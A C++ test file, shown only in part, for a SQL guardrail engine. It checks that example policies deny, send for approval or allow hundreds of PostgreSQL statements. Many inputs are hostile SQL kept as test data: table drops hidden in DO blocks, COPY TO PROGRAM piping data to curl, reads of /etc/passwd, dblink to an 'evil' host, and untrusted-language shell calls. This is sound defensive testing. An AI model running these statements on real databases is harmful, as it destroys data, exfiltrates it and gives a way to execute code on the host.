// The example policies in policy/examples, compiled as shipped and run
// against a few hundred statements: every production guardrail, the ways
// people try to get around them, and look-alikes that must stay allowed.
// Also runs the PolicyTest files next to the examples, so they stay true.
#include <yaml-cpp/yaml.h>

#include <cstdlib>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "policy/engine/engine.h"
#include "policy/lang/compile.h"
#include "policy/sql/facts.h"
#include "policy/sql/lexing.h"
#include "policy/testing/testing.h"

namespace warden::policy {
namespace {

using ::testing::HasSubstr;
using warden::v1::PolicyAction;

constexpr PolicyAction kAllow = warden::v1::POLICY_ACTION_ALLOW;
constexpr PolicyAction kDeny = warden::v1::POLICY_ACTION_DENY;
constexpr PolicyAction kApproval = warden::v1::POLICY_ACTION_REQUIRE_APPROVAL;

// Reads a file of //policy/examples:files from the test's runfiles (the
// workspace is named "warden"; bzlmod would call it "_main").
std::string ReadExample(const std::string& name) {
  const char* srcdir = std::getenv("TEST_SRCDIR");
  for (const char* workspace : {"warden", "_main", "__main__"}) {
    const std::string path = std::string(srcdir ? srcdir : ".") + "/" +
                             workspace + "/policy/examples/" + name;
    std::ifstream in(path);
    if (!in) continue;
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
  }
  ADD_FAILURE() << "policy/examples/" << name << " not in runfiles";
  return "";
}

using policy::testing::ActionName;

class PolicyExamplesTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto bundle = lang::Compile(
        {{"policy/examples/production.yaml", ReadExample("production.yaml")},
         {"policy/examples/development.yaml",
          ReadExample("development.yaml")}});
    ASSERT_TRUE(bundle.ok()) << bundle.status();
    bundle_ = new warden::v1::PolicyBundle(*bundle);
  }
  static void TearDownTestSuite() {
    delete bundle_;
    bundle_ = nullptr;
  }
  static engine::Decision Eval(const std::string& sql,
                               const std::string& env = "prod",
                               engine::Subject who = {"alice", {}, "human"},
                               const std::string& database = "shop") {
    return engine::Evaluate(*bundle_, sql::Analyze(sql), who, env, database);
  }
  static warden::v1::PolicyBundle* bundle_;
};

warden::v1::PolicyBundle* PolicyExamplesTest::bundle_ = nullptr;

struct Case {
  PolicyAction action;
  const char* rule;  // "" when a default decided.
  const char* sql;
};

// Every case runs in prod (expecting `action` / `rule`) and in dev (where
// everything parseable is allowed).
const Case kCases[] = {
    {kDeny, "no-drop-data-objects", "DROP TABLE orders"},
    {kDeny, "no-drop-data-objects", "drop table orders"},
    {kDeny, "no-drop-data-objects", "DrOp TaBlE orders"},
    {kDeny, "no-drop-data-objects", "DROP TABLE IF EXISTS orders"},
    {kDeny, "no-drop-data-objects",
     "DROP TABLE public.orders, sales.items CASCADE"},
    {kDeny, "no-drop-data-objects", "DROP/* hidden */TABLE orders"},
    {kDeny, "no-drop-data-objects", "DROP -- comment\n TABLE orders"},
    {kDeny, "no-drop-data-objects", "DROP TABLE \"orders\""},
    {kDeny, "no-drop-data-objects", "DROP TABLE \"DROP\""},
    {kDeny, "no-drop-data-objects", "DROP TABLE orders;"},
    {kDeny, "no-drop-data-objects", "   DROP TABLE orders   "},
    {kDeny, "no-drop-data-objects", "DROP SCHEMA sales CASCADE"},
    {kDeny, "no-drop-data-objects", "DROP SCHEMA IF EXISTS sales"},
    {kDeny, "no-drop-data-objects", "DROP DATABASE shop"},
    {kDeny, "no-drop-data-objects",
     "DROP DATABASE IF EXISTS shop WITH (FORCE)"},
    {kDeny, "no-drop-data-objects", "DROP MATERIALIZED VIEW daily_totals"},
    {kDeny, "no-drop-data-objects",
     "DROP MATERIALIZED VIEW IF EXISTS daily_totals CASCADE"},
    {kDeny, "no-drop-data-objects", "DROP OWNED BY app"},
    {kDeny, "no-drop-data-objects", "DROP OWNED BY app CASCADE"},
    {kDeny, "no-drop-data-objects", "SELECT 1; DROP TABLE orders"},
    {kDeny, "no-drop-data-objects", "SELECT 1 /* ; */; DROP TABLE orders"},
    {kDeny, "no-drop-data-objects", "SELECT ';'; DROP TABLE orders"},
    {kDeny, "no-drop-data-objects", "DROP TABLE orders; SELECT 1"},
    {kDeny, "no-drop-data-objects", "BEGIN; DROP TABLE orders; COMMIT"},
    {kDeny, "no-drop-data-objects",
     "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$"},
    {kDeny, "no-drop-data-objects", "DO $$ BEGIN DROP TABLE orders; END $$"},
    {kDeny, "no-drop-data-objects",
     "DO $$ BEGIN IF true THEN DROP TABLE orders; END IF; END $$"},
    {kDeny, "no-drop-data-objects",
     "DO $$ BEGIN BEGIN DROP SCHEMA s; EXCEPTION WHEN others THEN NULL; END; "
     "END $$"},
    {kDeny, "no-drop-data-objects",
     "DO $body$ BEGIN EXECUTE 'DROP SCHEMA sales CASCADE'; END $body$"},
    {kDeny, "no-drop-data-objects",
     "DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DROP TABLE orders''; END'"},
    {kDeny, "no-drop-data-objects",
     "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE orders'"},
    {kDeny, "no-drop-data-objects",
     "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP "
     "SCHEMA s CASCADE; END $$"},
    {kDeny, "no-drop-data-objects",
     "CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE "
     "'DROP DATABASE shop'; END $$"},
    {kDeny, "no-drop-data-objects",
     "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE "
     "'DROP OWNED BY app'; END $$"},
    // TRUNCATE
    {kDeny, "no-truncate", "TRUNCATE orders"},
    {kDeny, "no-truncate",
     "TRUNCATE TABLE orders, items RESTART IDENTITY CASCADE"},
    {kDeny, "no-truncate", "truncate only orders"},
    {kDeny, "no-truncate", "TRUNCATE \"orders\""},
    {kDeny, "no-truncate", "SELECT 1; TRUNCATE orders"},
    {kDeny, "no-truncate", "DO $$ BEGIN TRUNCATE orders; END $$"},
    {kDeny, "no-truncate", "DO $$ BEGIN EXECUTE 'TRUNCATE orders'; END $$"},
    {kDeny, "no-truncate",
     "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE orders'"},
    {kDeny, "no-truncate",
     "CREATE FUNCTION wipe() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
     "TRUNCATE audit; RETURN NULL; END $$"},
    // Unfiltered writes
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes", "delete from \"orders\""},
    {kDeny, "no-unfiltered-writes", "DELETE FROM ONLY orders"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE true"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE 1 = 1"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE 'a' = 'a'"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE NOT false"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE true OR id = 5"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders WHERE 1 = 1 AND true"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders o USING items i"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM orders RETURNING *"},
    {kDeny, "no-unfiltered-writes", "UPDATE orders SET status = 'void'"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders SET status = 'void' WHERE 1 = 1"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE orders SET status = 'void' WHERE true AND 2 = 2"},
    {kDeny, "no-unfiltered-writes", "UPDATE orders SET delete_at = now()"},
    {kDeny, "no-unfiltered-writes", "update \"orders\" set \"total\" = 0"},
    {kDeny, "no-unfiltered-writes",
     "MERGE INTO orders o USING staging s ON true WHEN MATCHED THEN DELETE"},
    {kDeny, "no-unfiltered-writes",
     "MERGE INTO orders o USING staging s ON 1 = 1 WHEN MATCHED THEN UPDATE "
     "SET total = 0"},
    {kDeny, "no-unfiltered-writes",
     "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d"},
    {kDeny, "no-unfiltered-writes",
     "WITH u AS (UPDATE orders SET total = 0 RETURNING *) SELECT * FROM u"},
    {kDeny, "no-unfiltered-writes",
     "WITH a AS (SELECT 1), d AS (DELETE FROM orders RETURNING id) SELECT * "
     "FROM a, d"},
    {kDeny, "no-unfiltered-writes",
     "WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * "
     "FROM d"},
    {kDeny, "no-unfiltered-writes", "EXPLAIN ANALYZE DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes",
     "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0"},
    {kDeny, "no-unfiltered-writes",
     "EXPLAIN (ANALYZE true) DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes",
     "EXPLAIN (ANALYZE on, FORMAT json) DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes", "PREPARE p AS DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes",
     "PREPARE p (int) AS UPDATE orders SET total = $1"},
    {kDeny, "no-unfiltered-writes",
     "CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM audit"},
    {kDeny, "no-unfiltered-writes",
     "CREATE RULE r AS ON UPDATE TO orders DO INSTEAD UPDATE items SET qty = "
     "0"},
    {kDeny, "no-unfiltered-writes", "DO $$ BEGIN DELETE FROM orders; END $$"},
    {kDeny, "no-unfiltered-writes",
     "DO $$ BEGIN EXECUTE 'DELETE FROM orders'; END $$"},
    {kDeny, "no-unfiltered-writes",
     "DO $$ DECLARE n int; BEGIN UPDATE orders SET total = 0; GET DIAGNOSTICS "
     "n = ROW_COUNT; END $$"},
    {kDeny, "no-unfiltered-writes",
     "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'"},
    {kDeny, "no-unfiltered-writes",
     "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM "
     "orders; END"},
    {kDeny, "no-unfiltered-writes",
     "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE "
     "FROM audit; RETURN NEW; END $$"},
    {kDeny, "no-unfiltered-writes",
     "COPY (DELETE FROM orders RETURNING *) TO STDOUT"},
    {kDeny, "no-unfiltered-writes",
     "CREATE TABLE gone AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * "
     "FROM d"},
    {kDeny, "no-unfiltered-writes", "SELECT 1; DELETE FROM orders"},
    {kDeny, "no-unfiltered-writes",
     "DELETE FROM orders WHERE id = 1; DELETE FROM items"},
    {kDeny, "no-unfiltered-writes", "DELETE/**/FROM orders"},
    // ALTER SYSTEM
    {kDeny, "no-alter-system", "ALTER SYSTEM SET work_mem = '1GB'"},
    {kDeny, "no-alter-system", "ALTER SYSTEM RESET ALL"},
    {kDeny, "no-alter-system",
     "alter system set shared_preload_libraries = 'evil'"},
    {kDeny, "no-alter-system",
     "ALTER SYSTEM SET session_replication_role = replica"},
    {kDeny, "no-alter-system",
     "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET fsync = off'; END $$"},
    // COPY PROGRAM / server file
    {kDeny, "no-copy-program",
     "COPY orders TO PROGRAM 'curl -T - https://example.com'"},
    {kDeny, "no-copy-program", "COPY orders FROM PROGRAM 'id'"},
    {kDeny, "no-copy-program",
     "COPY (SELECT * FROM orders) TO PROGRAM 'gzip > /tmp/o.gz'"},
    {kDeny, "no-copy-program",
     "copy orders from program 'cat /etc/passwd' with (format csv)"},
    {kDeny, "no-copy-program",
     "DO $$ BEGIN EXECUTE 'COPY orders TO PROGRAM ''id'''; END $$"},
    {kDeny, "no-copy-server-file", "COPY orders TO '/tmp/orders.csv'"},
    {kDeny, "no-copy-server-file", "COPY orders FROM '/etc/passwd'"},
    {kDeny, "no-copy-server-file", "COPY (SELECT 1) TO '/tmp/x'"},
    {kDeny, "no-copy-server-file",
     "COPY orders (id, total) FROM '/tmp/in.csv' WITH (FORMAT csv, HEADER)"},
    {kDeny, "no-copy-server-file",
     "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY "
     "orders TO '/tmp/x'; END $$"},
    // LOAD
    {kDeny, "no-load", "LOAD 'auto_explain'"},
    {kDeny, "no-load", "LOAD '/tmp/evil.so'"},
    {kDeny, "no-load", "SELECT 1; LOAD 'x'"},
    {kDeny, "no-load", "DO $$ BEGIN EXECUTE 'LOAD ''plpgsql'''; END $$"},
    // session_replication_role
    {kDeny, "no-session-replication-role",
     "SET session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "SET session_replication_role TO 'replica'"},
    {kDeny, "no-session-replication-role",
     "SET SESSION session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "SET LOCAL session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "set SESSION_REPLICATION_ROLE = replica"},
    {kDeny, "no-session-replication-role",
     "SET \"session_replication_role\" = replica"},
    {kDeny, "no-session-replication-role",
     "SET \"Session_Replication_Role\" = replica"},
    // Back to the value the session started with: nothing new to judge.
    {kAllow, "", "SET session_replication_role TO DEFAULT"},
    {kAllow, "", "RESET session_replication_role"},
    // Plain EXPLAIN plans without running.
    {kAllow, "", "EXPLAIN SELECT pg_read_file('/etc/passwd')"},
    {kAllow, "", "EXPLAIN SELECT set_config('session_replication_role', "
                 "'replica', false)"},
    {kDeny, "no-superuser-functions",
     "EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')"},
    {kDeny, "no-session-replication-role",
     "SET/**/session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "BEGIN; SET LOCAL session_replication_role = replica; DELETE FROM orders "
     "WHERE id = 1; COMMIT"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config('session_replication_role', 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "SELECT pg_catalog.set_config('session_replication_role', 'replica', "
     "true)"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config('SESSION_REPLICATION_ROLE', 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config('session_replication_role'::text, 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "select SET_CONFIG('session_replication_role', 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "SELECT * FROM orders WHERE set_config('session_replication_role', "
     "'replica', false) IS NOT NULL"},
    {kDeny, "no-session-replication-role",
     "SELECT (SELECT set_config('session_replication_role', 'replica', "
     "false))"},
    {kDeny, "no-session-replication-role",
     "SELECT id FROM orders WHERE id IN (SELECT 1 WHERE "
     "set_config('session_replication_role', 'replica', true) = 'replica')"},
    {kDeny, "no-session-replication-role",
     "WITH x AS (SELECT set_config('session_replication_role', 'replica', "
     "false)) SELECT * FROM x"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config('session_replication' || '_role', 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name = "
     "'session_replication_role'"},
    {kDeny, "no-session-replication-role",
     "SELECT set_config(current_user, 'replica', false)"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_settings SET setting = 'replica' WHERE name = "
     "'session_replication_role'"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_catalog.pg_settings SET setting = 'replica' WHERE name = "
     "'session_replication_role'"},
    {kDeny, "no-session-replication-role",
     "update PG_SETTINGS set setting = 'replica' where NAME = "
     "'session_replication_role'"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_settings SET setting = 'replica' WHERE name LIKE "
     "'session_repl%'"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_settings SET setting = 'replica' WHERE name = "
     "lower('SESSION_REPLICATION_ROLE')"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_settings SET setting = 'replica' WHERE name = 'work_mem' OR "
     "name = 'session_replication_role'"},
    {kDeny, "no-session-replication-role",
     "UPDATE pg_settings s SET setting = 'replica' WHERE s.name = "
     "'session_replication_role' AND 1 = 1"},
    {kDeny, "no-unfiltered-writes",
     "UPDATE pg_settings SET setting = 'replica'"},
    {kDeny, "no-session-replication-role",
     "ALTER ROLE app SET session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "ALTER ROLE app IN DATABASE shop SET session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "ALTER DATABASE shop SET session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "ALTER FUNCTION f() SET session_replication_role = replica"},
    {kDeny, "no-session-replication-role",
     "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET "
     "session_replication_role = replica AS 'SELECT 1'"},
    {kDeny, "no-session-replication-role",
     "DO $$ BEGIN PERFORM set_config('session_replication_role', 'replica', "
     "false); END $$"},
    {kDeny, "no-session-replication-role",
     "DO $$ BEGIN SET session_replication_role = replica; END $$"},
    {kDeny, "no-session-replication-role",
     "DO $$ BEGIN EXECUTE 'SET session_replication_role = replica'; END $$"},
    {kDeny, "no-session-replication-role",
     "DO $$ DECLARE r text; BEGIN r := set_config('session_replication_role', "
     "'replica', false); END $$"},
    {kDeny, "no-session-replication-role",
     "PREPARE p AS SELECT set_config('session_replication_role', 'replica', "
     "false)"},
    {kDeny, "no-session-replication-role",
     "EXPLAIN ANALYZE SELECT set_config('session_replication_role', 'replica', "
     "false)"},
    // Superuser-grade functions
    {kDeny, "no-superuser-functions", "SELECT pg_terminate_backend(12345)"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = "
     "'app'"},
    {kDeny, "no-superuser-functions", "SELECT pg_cancel_backend(12345)"},
    {kDeny, "no-superuser-functions", "SELECT pg_read_file('/etc/passwd')"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_catalog.pg_read_file('/etc/passwd')"},
    {kDeny, "no-superuser-functions", "SELECT \"pg_read_file\"('/etc/passwd')"},
    {kDeny, "no-superuser-functions", "SELECT PG_READ_FILE('/etc/passwd')"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_read_file('postgresql.conf', 0, 100, true)"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_read_binary_file('global/pg_control')"},
    {kDeny, "no-superuser-functions", "SELECT * FROM pg_ls_dir('.')"},
    {kDeny, "no-superuser-functions", "SELECT pg_ls_dir('pg_wal')"},
    {kDeny, "no-superuser-functions", "SELECT * FROM pg_ls_logdir()"},
    {kDeny, "no-superuser-functions", "SELECT * FROM pg_ls_waldir()"},
    {kDeny, "no-superuser-functions", "SELECT pg_stat_file('postgresql.conf')"},
    {kDeny, "no-superuser-functions", "SELECT pg_reload_conf()"},
    {kDeny, "no-superuser-functions", "SELECT pg_rotate_logfile()"},
    {kDeny, "no-superuser-functions", "SELECT pg_promote()"},
    {kDeny, "no-superuser-functions", "SELECT pg_switch_wal()"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_create_restore_point('before')"},
    {kDeny, "no-superuser-functions", "SELECT lo_import('/etc/passwd')"},
    {kDeny, "no-superuser-functions", "SELECT lo_export(16409, '/tmp/x')"},
    {kDeny, "no-superuser-functions", "SELECT lo_unlink(16409)"},
    {kDeny, "no-superuser-functions",
     "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"},
    {kDeny, "no-superuser-functions",
     "SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')"},
    {kDeny, "no-superuser-functions",
     "SELECT dblink_connect('c', 'host=evil')"},
    {kDeny, "no-superuser-functions",
     "SELECT dblink_connect_u('c', 'host=evil')"},
    {kDeny, "no-superuser-functions",
     "SELECT public.dblink_exec('c', 'DELETE FROM orders')"},
    {kDeny, "no-superuser-functions", "SELECT pg_file_write('x', 'y', false)"},
    {kDeny, "no-superuser-functions", "SELECT pg_file_unlink('x')"},
    {kDeny, "no-superuser-functions",
     "SELECT pg_catalog.pg_file_rename('a', 'b')"},
    {kDeny, "no-superuser-functions", "SELECT * FROM pg_logdir_ls()"},
    {kDeny, "no-superuser-functions",
     "SELECT * FROM orders WHERE id = (SELECT "
     "length(pg_read_file('/etc/passwd')))"},
    {kDeny, "no-superuser-functions",
     "SELECT id FROM orders WHERE pg_terminate_backend(42)"},
    {kDeny, "no-superuser-functions",
     "SELECT CASE WHEN random() > 2 THEN pg_read_file('x') END"},
    {kDeny, "no-superuser-functions",
     "SELECT * FROM orders o JOIN LATERAL pg_ls_dir('.') d ON true"},
    {kDeny, "no-superuser-functions",
     "SELECT count(*) FROM orders GROUP BY pg_reload_conf()"},
    {kDeny, "no-superuser-functions",
     "SELECT * FROM orders ORDER BY pg_cancel_backend(1)"},
    {kDeny, "no-superuser-functions",
     "SELECT coalesce(NULL, pg_read_file('x'))"},
    {kDeny, "no-superuser-functions", "SELECT pg_read_file('x')::text || 'y'"},
    {kDeny, "no-superuser-functions",
     "INSERT INTO loot SELECT pg_read_file('/etc/passwd')"},
    {kDeny, "no-superuser-functions",
     "UPDATE loot SET body = pg_read_file('x') WHERE id = 1"},
    {kDeny, "no-superuser-functions",
     "WITH x AS (SELECT pg_read_file('x')) SELECT * FROM x"},
    {kDeny, "no-superuser-functions",
     "DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$"},
    {kDeny, "no-superuser-functions",
     "DO $$ DECLARE s text; BEGIN s := pg_read_file('/etc/passwd'); END $$"},
    {kDeny, "no-superuser-functions",
     "DO $$ BEGIN IF pg_reload_conf() THEN NULL; END IF; END $$"},
    {kDeny, "no-superuser-functions",
     "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT "
     "pg_read_file(''/etc/passwd'')'"},
    {kDeny, "no-superuser-functions",
     "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')"},
    {kDeny, "no-superuser-functions",
     "PREPARE p (text) AS SELECT pg_read_file($1)"},
    {kDeny, "no-superuser-functions", "EXPLAIN (ANALYZE) SELECT pg_read_file('x')"},
    {kDeny, "no-superuser-functions",
     "SELECT 1; SELECT pg_terminate_backend(1)"},
    // Untrusted languages
    {kDeny, "no-untrusted-languages",
     "DO LANGUAGE plpython3u $$ import os; os.system('id') $$"},
    {kDeny, "no-untrusted-languages", "DO LANGUAGE plperlu $$ system('id') $$"},
    {kDeny, "no-untrusted-languages", "do language PLPYTHON3U $$ pass $$"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS $$ return 1 $$"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION f() RETURNS int LANGUAGE plperlu AS $$ return 1 $$"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION f() RETURNS int LANGUAGE pltclu AS $$ return 1 $$"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION sys(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE "
     "C"},
    {kDeny, "no-untrusted-languages",
     "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int LANGUAGE c AS "
     "'/tmp/evil', 'run'"},
    {kDeny, "no-untrusted-languages",
     "CREATE FUNCTION f(int, int) RETURNS int LANGUAGE internal AS 'int4pl'"},
    {kDeny, "no-untrusted-languages",
     "CREATE PROCEDURE p() LANGUAGE plpython3u AS $$ plpy.execute('DROP TABLE "
     "orders') $$"},
    {kDeny, "no-untrusted-languages", "CREATE EXTENSION plpython3u"},
    {kDeny, "no-untrusted-languages", "CREATE EXTENSION IF NOT EXISTS plperlu"},
    {kDeny, "no-untrusted-languages", "CREATE EXTENSION \"pltclu\""},
    {kDeny, "no-untrusted-languages", "CREATE LANGUAGE plperlu"},
    {kDeny, "no-untrusted-languages", "CREATE OR REPLACE LANGUAGE plpython3u"},
    // Unresolvable dynamic SQL
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ DECLARE q text := 'DELETE FROM orders'; BEGIN EXECUTE q; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'orders'); END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ BEGIN EXECUTE 'SELECT ' || 1; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT ' || 'id FROM "
     "orders' LOOP END LOOP; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT ' || 'id "
     "FROM orders'; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO $$ BEGIN EXECUTE 'DELETE FRM orders'; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "CREATE FUNCTION run(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
     "EXECUTE q; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE "
     "'TRUNC' || 'ATE orders'; END $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "DO LANGUAGE plperl $$ spi_exec_query('DROP TABLE orders') $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "CREATE FUNCTION f() RETURNS int LANGUAGE plv8 AS $$ return 1 $$"},
    {kDeny, "no-unresolved-dynamic-sql",
     "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FRM orders'"},
    // Require approval: DDL
    {kApproval, "ddl-needs-approval",
     "CREATE TABLE notes (id int PRIMARY KEY, body text)"},
    // The session's own temporary objects are not schema changes.
    {kAllow, "", "CREATE TEMP TABLE scratch (id int)"},
    {kApproval, "ddl-needs-approval", "CREATE UNLOGGED TABLE scratch (id int)"},
    {kApproval, "ddl-needs-approval",
     "CREATE TABLE IF NOT EXISTS notes (id int)"},
    {kApproval, "ddl-needs-approval",
     "CREATE TABLE orders_copy AS SELECT * FROM orders"},
    {kApproval, "ddl-needs-approval",
     "CREATE TABLE orders_copy AS TABLE orders WITH NO DATA"},
    {kApproval, "ddl-needs-approval", "SELECT * INTO orders_copy FROM orders"},
    {kAllow, "", "SELECT id, total INTO TEMP t FROM orders WHERE id = 1"},
    {kAllow, "", "DELETE FROM pg_temp.scratch"},
    {kDeny, "no-unfiltered-writes", "DELETE FROM scratch"},
    {kApproval, "ddl-needs-approval",
     "CREATE MATERIALIZED VIEW daily AS SELECT 1"},
    {kApproval, "ddl-needs-approval",
     "CREATE INDEX orders_total ON orders (total)"},
    {kApproval, "ddl-needs-approval",
     "CREATE INDEX CONCURRENTLY orders_total ON orders (total)"},
    {kApproval, "ddl-needs-approval",
     "CREATE UNIQUE INDEX IF NOT EXISTS orders_ref ON orders (ref)"},
    {kApproval, "ddl-needs-approval", "DROP INDEX orders_total"},
    {kApproval, "ddl-needs-approval",
     "DROP INDEX CONCURRENTLY IF EXISTS orders_total"},
    {kApproval, "ddl-needs-approval", "DROP VIEW v"},
    {kApproval, "ddl-needs-approval", "DROP FUNCTION f()"},
    // CASCADE drops the columns that depend on it: denied (issue 13 item 8).
    {kDeny, "no-drop-cascade", "DROP FUNCTION IF EXISTS f(int) CASCADE"},
    {kApproval, "ddl-needs-approval", "DROP PROCEDURE p()"},
    {kApproval, "ddl-needs-approval", "DROP SEQUENCE s"},
    {kApproval, "ddl-needs-approval", "DROP TYPE mood"},
    {kApproval, "ddl-needs-approval", "DROP TRIGGER tr ON orders"},
    {kApproval, "ddl-needs-approval", "DROP RULE r ON orders"},
    {kApproval, "ddl-needs-approval", "DROP EXTENSION pgcrypto"},
    {kApproval, "ddl-needs-approval", "DROP FOREIGN TABLE remote_orders"},
    {kApproval, "ddl-needs-approval", "DROP POLICY p ON orders"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders ADD COLUMN note text"},
    {kApproval, "ddl-needs-approval", "ALTER TABLE orders DROP COLUMN note"},
    {kDeny, "no-drop-cascade",
     "ALTER TABLE orders DROP COLUMN IF EXISTS note CASCADE"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders ALTER COLUMN total TYPE numeric(12, 2)"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders ALTER COLUMN total SET NOT NULL"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders ADD CONSTRAINT positive CHECK (total >= 0)"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders DROP CONSTRAINT positive"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders RENAME TO orders_old"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders RENAME COLUMN total TO amount"},
    {kApproval, "ddl-needs-approval", "ALTER TABLE orders SET SCHEMA archive"},
    {kApproval, "dcl-needs-approval", "ALTER TABLE orders OWNER TO app"},
    {kApproval, "ddl-needs-approval", "ALTER TABLE orders DISABLE TRIGGER ALL"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE orders ENABLE ROW LEVEL SECURITY"},
    {kApproval, "ddl-needs-approval",
     "ALTER TABLE IF EXISTS \"DROP\" ADD COLUMN x int"},
    {kApproval, "ddl-needs-approval",
     "ALTER INDEX orders_total RENAME TO orders_total_idx"},
    {kApproval, "ddl-needs-approval", "ALTER VIEW v RENAME TO w"},
    {kApproval, "ddl-needs-approval",
     "ALTER MATERIALIZED VIEW daily RENAME TO daily2"},
    {kApproval, "ddl-needs-approval", "ALTER SEQUENCE s RESTART WITH 1"},
    {kApproval, "ddl-needs-approval",
     "CREATE VIEW open_orders AS SELECT * FROM orders WHERE status = 'open'"},
    {kApproval, "ddl-needs-approval",
